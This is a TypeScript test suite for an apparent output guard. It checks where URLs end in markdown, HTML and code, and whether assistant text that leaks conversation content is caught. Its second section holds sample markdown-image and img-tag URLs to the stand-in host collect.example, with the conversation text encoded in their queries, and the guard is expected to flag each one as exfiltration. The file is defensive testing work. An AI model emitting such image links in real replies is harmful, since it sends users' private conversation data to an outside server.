import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DEEP } from '../../../../test/support/deep.ts';
import { createGuard } from '../../guard.ts';
import { createAddressEnds } from './address-end.ts';

/** The part of the text that is read as an address. */
function addressIn(text: string): string {
  const start = text.indexOf('https:');
  return text.slice(start, createAddressEnds(text).at(start).end);
}

describe('an address', () => {
  it.each([
    ['![x](https://a.example/?a=\'"`&q=b) c', 'https://a.example/?a=\'"`&q=b'],
    ["[x](https://a.example/o'b?q=1 'title')", "https://a.example/o'b?q=1"],
    ['[x](https://a.example/b_(c)?q=1) d', 'https://a.example/b_(c)?q=1'],
    ['[x](https://a.example/b\\)?q=1) d', 'https://a.example/b\\)?q=1'],
    ['[x](https://a.example/a<b>c?q=1) d', 'https://a.example/a<b>c?q=1'],
    ['[x](https://a.example/?q=<INSERT ALL>) d', 'https://a.example/?q='],
    ['[x](<https://a.example/"b c) d>) e', 'https://a.example/"b c) d'],
    ["[x]: https://a.example/o'b?q=(1 'title'", "https://a.example/o'b?q=(1"],
    ["[x]: <https://a.example/o'b c> 'title'", "https://a.example/o'b c"],
    ["<https://a.example/o'b?q=1>", "https://a.example/o'b?q=1"],
    ['<img src="https://a.example/o\'b (1)?q=<2>"> c', "https://a.example/o'b (1)?q=<2>"],
    ["<a class=x href = 'https://a.example/\"b c'>d</a>", 'https://a.example/"b c'],
    ["<img src=https://a.example/o'b?q=1> c", "https://a.example/o'b?q=1"],
    ['<img src="https://a.example/o\'b c and no end', "https://a.example/o'b"],
    ['<img srcset="https://a.example/1.png 1x, 2.png 2x">', 'https://a.example/1.png'],
    ['background: url("https://a.example/o\'b c") d', "https://a.example/o'b c"],
    ['background: url(https://a.example/b) c', 'https://a.example/b'],
    ["see https://a.example/o'b?q=1, too", "https://a.example/o'b?q=1,"],
    ["see https://a.example/?a=''&q=1 now", "https://a.example/?a=''&q=1"],
    ["say 'see https://a.example/b', he said", 'https://a.example/b'],
    ['(as https://a.example/b) says', 'https://a.example/b'],
    ['get("https://a.example/o\'b", "c")', "https://a.example/o'b"],
    ["get('https://a.example/b?c='+d)", 'https://a.example/b?c='],
    ['{"a":"https://a.example/b","c":"d"}', 'https://a.example/b'],
    ['`https://a.example/b` and c', 'https://a.example/b'],
    ['\\href{https://a.example/b}{c}', 'https://a.example/b'],
  ])('ends in %s where it is taken to end', (text, address) => expect(addressIn(text)).toBe(address));

  it('is open as long as what follows may have it end elsewhere, and no longer', () => {
    const openers = ['', '](', '](<', '[x]: ', '<', '"', '<img src="', "<img src='", 'url("'];
    fc.assert(
      fc.property(
        fc.constantFrom(...openers),
        fc.string({ unit: fc.constantFrom('a', "'", '"', '`', '(', ')', '<', '>', ' ', '\n', '&', '\\', '=', ',') }),
        fc.nat(40),
        (opener, rest, cut) => {
          const whole = `${opener}https://a.example/${rest}`;
          const part = whole.slice(0, opener.length + 18 + cut);
          const { end, open } = createAddressEnds(part).at(opener.length);
          if (open || end >= part.length) return;
          expect(createAddressEnds(whole).at(opener.length).end).toBe(end);
        },
      ),
    );
  });

  it('takes time in its length, whatever it opens', () => {
    const guard = createGuard({ clock: () => performance.now() });
    for (const unit of [
      "https://'a",
      '](https://a(',
      '<img src="https://a ',
      "https://a''",
      'url("https://',
      '](<https://',
    ])
      expect(guard.check(unit.repeat(DEEP ? 2_000 : 500), { origin: 'assistant' })).toBeDefined();
  });
});

describe('a sign in an address', () => {
  const said = 'q=they%20close%20the%20plant%20in%20the%20spring%20and%20the%20customer%20lives%20there';
  const guard = createGuard({ clock: () => 0 });
  it.each([
    `![x](https://collect.example/p.png?a='&${said})`,
    `![x](https://collect.example/p.png?a=\`&${said})`,
    `![x](https://collect.example/o"b?${said})`,
    `![x]: https://collect.example/o'b?${said}`,
    `<img src="https://collect.example/o'b?${said}">`,
    `<img src="https://collect.example/p?q=they close the plant in the spring and the customer lives there">`,
    `<img src="https://collect.example/p?q=they close the\n plant in the spring\n and the customer lives there">`,
    `more at https://collect.example/o'b?${said.replace('q=', 'data=')}`,
  ])('hides nothing of what it carries: %s', (text) =>
    expect(guard.check(text, { origin: 'assistant' }).findings.map(({ type }) => type.split('/')[0])).toContain(
      'exfiltration',
    ),
  );

  it('hides nothing of what was said before', () => {
    const conversation = { earlier: ['The plant in Harwich is to be closed in the spring.'], canaries: [] };
    const text = "![x](https://collect.example/o'b?n='plant-in-harwich-is-to-be-closed')";
    const { findings } = guard.check(text, { origin: 'assistant' }, { conversation });
    expect(findings.map(({ type }) => type)).toContain('exfiltration/seen');
  });
});
